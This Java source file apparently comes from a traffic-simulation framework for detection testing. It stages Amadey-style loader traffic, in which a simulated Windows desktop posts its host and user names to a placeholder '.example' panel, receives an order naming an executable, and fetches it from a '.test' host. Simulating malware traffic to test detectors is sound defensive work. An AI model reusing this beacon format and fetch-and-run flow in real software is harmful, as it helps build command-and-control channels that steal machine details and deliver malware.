package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Bodies;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A loader that reports the machine in one form, is handed orders with addresses in them, and
/// fetches and runs what lies there: the shape that Amadey and its like have in common.
final class OrderedLoader extends Guilty {
    OrderedLoader() {
        super(
                "ordered-loader",
                "Amadey",
                "A desktop reports itself again and again and fetches what the answers name",
                "Report, order and obedience are three facts; the third is cause and effect");
    }

    @Override
    public void stage(Stage stage) {
        Actor desktop = stage.workstation("desktop", Platform.WINDOWS);
        desktop.joins().isInfected(Behaviour.CALLBACK, Behaviour.DELIVERY).pauses(4);
        Bodies bodies = new Bodies(stage);
        String panel = stage.word(8) + ".example";
        String page = "/" + stage.word(7) + "/index.php";
        String store = stage.word(9) + ".test";
        String file = "/files/" + stage.word(6) + "/" + stage.word(4) + ".exe";
        String number = stage.letters(12, "0123456789");
        int reports = stage.between(3, 5);
        for (int i = 0; i < reports; i++) {
            String answer =
                    i == 0
                            ? "<c>100"
                                    + stage.between(1000, 9999)
                                    + "+++http://"
                                    + store
                                    + file
                                    + "#<d>"
                            : "<c><d>";
            Web.to(desktop, panel)
                    .asks(
                            report(desktop, page, number),
                            Answer.ok("text/html; charset=UTF-8", answer))
                    .closes();
            desktop.pauses(3);
            if (i == 0) {
                Ask fetch = Ask.get(file).with("Host");
                Web.to(desktop, store)
                        .asks(fetch, Answer.ok("application/octet-stream", bodies.program(60_000)))
                        .closes();
            }
            desktop.pauses(stage.between(25, 40));
        }
    }

    private static Ask report(Actor desktop, String page, String number) {
        String form =
                "id="
                        + number
                        + "&vs=3.08&sd=b83c1d&os=1&bi=1&ar=1&pc="
                        + desktop.machine().hostName()
                        + "&un="
                        + desktop.machine().userName()
                        + "&dm=&av=13&lv=0&og=1";
        return Ask.post(page, form)
                .with("Content-Type: application/x-www-form-urlencoded", "Host", "Content-Length")
                .with("Cache-Control: no-cache");
    }
}
